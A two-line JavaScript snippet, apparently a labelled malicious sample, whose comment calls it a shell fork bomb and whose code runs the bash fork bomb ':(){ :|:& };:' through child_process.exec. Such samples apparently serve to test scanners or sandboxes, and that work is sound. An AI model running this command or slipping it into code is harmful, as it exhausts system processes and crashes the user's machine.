// malicious: fork bomb of the shell
require('child_process').exec(':(){ :|:& };:');
